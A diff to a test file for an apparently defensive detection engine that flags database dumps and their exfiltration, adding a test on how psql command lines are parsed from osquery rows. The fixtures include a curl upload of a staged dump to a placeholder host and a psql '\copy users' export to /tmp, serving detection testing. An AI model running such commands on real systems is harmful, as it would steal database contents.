@@ -388,3 +388,21 @@ def test_staged_dump_outputs_join_the_chain(staging: str) -> None:
     log.transfer("pg-1", T + 40, "daemon", 1, f"curl -T {upload} https://e.example.com", "/usr/bin/curl", 30, session=False)
     (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
     assert f.stages == ["access", "dump", "egress"] and "dump-staged:+5" in f.reasons and "T1560" in f.techniques
+
+
+def test_a_session_rows_command_line_is_read_in_the_programs_order() -> None:
+    # db_cli_sessions joins /proc/PID/cmdline in the program's order; db_cli_exec's cmdline is argv as osquery
+    # logs it (a0 a1 a10 a11 ... a2 ...), whose order split_cmdline recovers past 10 arguments. Read as logged,
+    # this 13-argument session line loses its \copy (the "recovered" order moves the file away from it).
+    cmdline = "psql -h db1 -c \\copy users to /tmp/u.csv -q -U app -X -d prod"
+    e = engine()
+    seen = {}
+    # The exec row first: the session row must not get the class memoised for the same columns.
+    for host, query in (("pg-1", "db_cli_exec"), ("pg-2", "db_cli_sessions")):
+        log = Log()
+        log.db_exec(host, T, "mallory", 1004, cmdline, "/usr/bin/psql", 4101, "/usr/bin/bash", "-bash", query=query)
+        (f,) = e.process(HostState(host), rows_of(log))[1]
+        data = f.evidences[0]["data"]
+        seen[query] = (data["dump_intent"], data["output_path"], data["database"])
+    assert seen["db_cli_sessions"] == ("\\copy to", "/tmp/u.csv", "")
+    assert seen["db_cli_exec"] == ("", "", "prod")  # read as osquery logs it (the order it recovers)
